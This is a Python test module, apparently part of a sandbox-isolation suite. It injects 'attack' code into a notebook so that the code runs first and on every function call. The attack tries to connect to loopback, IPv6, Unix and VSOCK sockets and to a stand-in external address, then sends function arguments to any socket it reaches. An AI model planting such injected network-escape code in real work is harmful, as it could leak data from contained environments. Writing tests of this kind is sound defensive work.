"""Connect to the network, to this machine, to its host, and to local sockets."""

from assignments.hostile import first, replaced

PORT = 47123  # where a test listens, on the loopback of the machine
PATH = "/tmp/initlib-hostile.socket"
ATTACK = f"""
import socket
import urllib.request

PLACES = [
    (socket.AF_INET, ("127.0.0.1", {PORT})),
    (socket.AF_INET, ("192.0.2.1", 80)),
    (socket.AF_INET6, ("::1", {PORT})),
    (socket.AF_UNIX, "{PATH}"),
    (socket.AF_UNIX, "\\0initlib-hostile"),
    (getattr(socket, "AF_VSOCK", 40), (2, {PORT})),
    (getattr(socket, "AF_VSOCK", 40), (1, {PORT})),
]

def attack(*arguments, **options):
    reached = []
    for family, place in PLACES:
        try:
            with socket.socket(family, socket.SOCK_STREAM) as client:
                client.settimeout(0.2)
                client.connect(place)
                client.sendall(repr(arguments).encode())
                reached.append(place)
        except OSError:
            pass
    assert not reached, f"connected to {{reached}}"
    for family in range(64):
        for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
            try:
                socket.socket(family, kind).sendto(b"x", ("127.0.0.1", {PORT}))
            except (OSError, TypeError):
                pass
"""


def spoil(notebook, honest):
    """Connect before everything, and whenever another function is called."""
    listen = "server = socket.create_server(('127.0.0.1', 0))"
    return replaced(first(notebook, ATTACK + "\nattack()", listen), honest, ATTACK)
